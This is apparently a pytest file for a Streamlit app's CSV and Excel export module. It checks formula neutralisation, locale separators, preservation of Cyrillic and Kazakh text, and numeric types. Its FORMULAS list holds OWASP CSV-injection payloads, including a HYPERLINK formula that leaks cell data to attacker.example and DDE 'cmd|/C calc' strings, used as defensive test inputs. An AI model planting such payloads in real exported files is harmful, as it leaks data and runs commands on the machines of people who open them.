"""The app's own table downloads (policy_engine/documents/exports.py): CSV and XLSX that a spreadsheet opens without
running anything a user typed, with numbers kept as numbers and Cyrillic and Kazakh intact; every grid a
page shows offers them, and the grids' own CSV download (which wrote `=HYPERLINK(…)` as typed) is off."""

from __future__ import annotations

import csv
import io
import math
import re
import tomllib
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from policy_engine.documents import exports

ROOT = Path(__file__).resolve().parents[2]
APP = str(ROOT / "app.py")

# The OWASP "CSV Injection" examples and their relatives: each must arrive as text starting with `'`.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1;"Нажмите")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading blanks are skipped by some readers
    "\n@x",
    "\uff1d1+1",  # full-width equals sign
    "=Салбұрын",
]
HEADERS = ["Атауы", "Саны", "Доля", "Дата", "Готово"]
COLUMNS = ["name", "count", "share", "day", "done"]


def rows_with(texts: list[str]) -> list[dict]:
    return [{"name": text, "count": -5, "share": 0.25, "day": date(2026, 3, 1), "done": True} for text in texts]


def read_csv(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel reads the file as Windows-1251"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def read_xlsx(data: bytes) -> list[list]:
    """The cells as a spreadsheet shows them: a text cell with Excel's quote-prefix style reads as `'` + its
    text (what one types into Excel to get it), so the tests compare with `neutralise` either way."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), "a formula cell in the export"
    return [["'" + c.value if c.quotePrefix else c.value for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    "text, expected",
    [
        *((f, "'" + f) for f in FORMULAS),
        ("Өскемен", "Өскемен"),
        ("a=b", "a=b"),  # only the first character starts a formula
        ("", ""),
        ("— dash", "— dash"),
        ("-", "'-"),
        ("'already quoted", "'already quoted"),
    ],
)
def test_neutralise(text, expected):
    assert exports.neutralise(text) == expected


def test_csv_neutralises_formulas_and_keeps_numbers_and_cyrillic():
    data = exports.table_csv(rows_with(FORMULAS + ["Усть-Каменогорск — Өскемен"]), COLUMNS, HEADERS)
    header, *body = read_csv(data)
    assert header == HEADERS
    assert [r[0] for r in body] == ["'" + f for f in FORMULAS] + ["Усть-Каменогорск — Өскемен"]
    assert all(r[1:] == ["-5", "0.25", "2026-03-01", "TRUE"] for r in body)  # a negative number is a number
    assert data.count(b"\r\n") == len(body) + 1


def test_xlsx_neutralises_formulas_and_keeps_types():
    data = exports.table_xlsx(rows_with(FORMULAS + ["Шығыс Қазақстан"]), COLUMNS, HEADERS)
    header, *body = read_xlsx(data)
    assert header == HEADERS
    assert [r[0] for r in body] == ["'" + f for f in FORMULAS] + ["Шығыс Қазақстан"]
    for r in body:
        assert r[1] == -5 and isinstance(r[1], int)
        assert r[2] == 0.25
        assert r[3] == datetime(2026, 3, 1)  # a date cell (openpyxl reads dates back as datetimes)
        assert r[4] is True


def test_the_xlsx_keeps_the_text_as_typed_and_marks_it_with_excels_quote_prefix():
    data = exports.table_xlsx(rows_with(FORMULAS[:1] + ["Өскемен"]), COLUMNS, HEADERS)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    quoted, plain = sheet["A2"], sheet["A3"]
    assert (quoted.value, quoted.data_type, quoted.quotePrefix) == (FORMULAS[0], "s", True)
    assert (plain.value, plain.quotePrefix) == ("Өскемен", False)


@pytest.mark.parametrize("lang, delimiter, share", [("ru", ";", "0,25"), ("kk", ";", "0,25"), ("en", ",", "0.25")])
def test_the_csv_uses_the_readers_separators(lang, delimiter, share):
    """Excel opens a CSV with the system's list separator: ';' and a decimal comma in Russian and Kazakh."""
    data = exports.table_csv(rows_with(["Өскемен; Риддер", "=1"]), COLUMNS, HEADERS, lang=lang)
    header, *body = read_csv(data, delimiter)
    assert header == HEADERS
    assert body[0] == ["Өскемен; Риддер", "-5", share, "2026-03-01", "TRUE"]
    assert body[1][0] == "'=1"


def test_a_header_from_the_users_file_is_neutralised_too():
    header, *_ = read_csv(exports.table_csv([{"a": 1}], ["a"], ["=1+2"]))
    assert header == ["'=1+2"]
    assert read_xlsx(exports.table_xlsx([{"a": 1}], ["a"], ["@x"]))[0] == ["'@x"]


def test_missing_values_lists_and_choices():
    import numpy as np
    import pandas as pd

    frame = pd.DataFrame(
        {
            "kind": ["city", "district", None],
            "industries": [["cinema", "design"], [], None],
            "population": [np.int64(300_000), np.nan, 12],
            "start": [pd.Timestamp("2026-01-02"), pd.NaT, pd.Timestamp("2026-05-06 14:30")],
        }
    )
    labels = {"kind": {"city": "Город", "district": "Район"}, "industries": {"cinema": "Кино", "design": "Дизайн"}}
    columns = list(frame.columns)
    rows = frame.to_dict("records")
    assert exports.cells(rows, columns, labels) == [
        ["Город", "Кино, Дизайн", 300_000, date(2026, 1, 2)],
        ["Район", "", None, None],
        [None, None, 12, datetime(2026, 5, 6, 14, 30)],
    ]
    body = read_csv(exports.table_csv(rows, columns, columns, labels))[1:]
    assert body[1] == ["Район", "", "", ""]
    xlsx = read_xlsx(exports.table_xlsx(rows, columns, columns, labels))[1:]
    assert xlsx[0][:3] == ["Город", "Кино, Дизайн", 300_000] and xlsx[2][2] == 12


def test_text_a_spreadsheet_cannot_hold_is_made_safe():
    """An XLSX with a NUL or ESC in a cell does not open; a bidi override would reverse the cell."""
    rows = [{"t": "a\x00b\x1b[31m\u202eevil", "n": 1}, {"t": "x" * 40_000, "n": 2}, {"t": float("inf"), "n": 3}]
    texts = [r[0] for r in read_xlsx(exports.table_xlsx(rows, ["t", "n"], ["t", "n"]))[1:]]
    assert texts[0] == "a\ufffdb\ufffd[31mevil"
    assert len(texts[1]) == exports.MAX_CELL_CHARS and texts[1].endswith("…")
    assert texts[2] is None


def test_an_empty_table_is_its_header_row():
    assert read_csv(exports.table_csv([], COLUMNS, HEADERS)) == [HEADERS]
    assert read_xlsx(exports.table_xlsx([], COLUMNS, HEADERS)) == [HEADERS]


def test_headers_must_match_the_columns():
    with pytest.raises(ValueError, match="2 headers for 1 columns"):
        exports.table_csv([], ["a"], ["A", "B"])


def test_grid_layout_reads_the_pages_column_config():
    """Hidden ids stay out, headers are the translated labels, choices come out as their labels."""
    config = {
        "id": None,
        "name": st.column_config.TextColumn("Название"),
        "kind": st.column_config.SelectboxColumn(
            "Тип", options=["city", "district"], format_func={"city": "Город", "district": "Район"}.get
        ),
        "industries": st.column_config.MultiselectColumn("Отрасли", options=["cinema"], format_func=lambda x: "Кино"),
        "budget": st.column_config.NumberColumn("Бюджет, млн KZT", format="%.1f"),
        "levels": "Уровни",
        "wide": st.column_config.TextColumn(width="large"),  # no label: the column's own (translated) name
    }
    columns = ["id", "name", "kind", "industries", "budget", "levels", "wide", "plain"]
    shown, headers, labels = exports.grid_layout(columns, config)
    assert shown == ["name", "kind", "industries", "budget", "levels", "wide", "plain"]
    assert headers == ["Название", "Тип", "Отрасли", "Бюджет, млн KZT", "Уровни", "wide", "plain"]
    assert labels == {"kind": {"city": "Город", "district": "Район"}, "industries": {"cinema": "Кино"}}
    assert exports.grid_layout(columns, config, column_order=["kind", "name"])[0] == ["kind", "name"]


def test_numbers_round_trip_exactly():
    values = [0, 1, -1, 2**53, 1234.5, -0.001, 1e-12]
    rows = [{"v": v} for v in values]
    assert [float(r[0]) for r in read_csv(exports.table_csv(rows, ["v"], ["v"]))[1:]] == values
    assert [r[0] for r in read_xlsx(exports.table_xlsx(rows, ["v"], ["v"]))[1:]] == values
    assert not any(math.isnan(v) for v in values)


# --- the app ----------------------------------------------------------------------------------------


def test_the_grids_own_download_is_off_and_errors_show_no_details():
    """Both settings are real options of the pinned Streamlit (a misspelt key would be ignored silently)."""
    from streamlit import config

    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))["client"]
    assert settings["disableDataExport"] is True
    assert settings["showErrorDetails"] == "none"
    options = config.get_config_options()
    assert {"client.disableDataExport", "client.showErrorDetails"} <= set(options)
    assert config.get_option("client.disableDataExport") is True  # what AppTest and `streamlit run` read


def test_every_grid_on_a_page_goes_through_the_download_helper():
    """A table drawn with st.dataframe / st.data_editor directly would have no download at all now."""
    for page in sorted((ROOT / "pages").glob("*.py")):
        if page.name == "shared.py":
            continue
        source = page.read_text(encoding="utf-8")
        assert not re.search(r"st\.(dataframe|data_editor)\(", source), f"{page.name}: use grid() / editor()"


def test_a_page_offers_the_download_in_the_users_language():
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.button(key="open_sample").click().run()
    assert not at.exception
    assert at.get("download_button")
    labels = {b.proto.id.split("-")[-1]: b.label for b in at.get("download_button")}
    assert "Скачать CSV" in labels.values() and "Скачать Excel" in labels.values()
    at.switch_page("pages/1_identity_audit.py").run()
    assert not at.exception
    at.radio(key="lang_choice_ru").set_value("kk").run()
    buttons = [b.label for b in at.get("download_button")]
    assert buttons.count("CSV жүктеу") == buttons.count("Excel жүктеу") >= 3  # elements, actors, municipalities
    assert "Скачать CSV" not in buttons
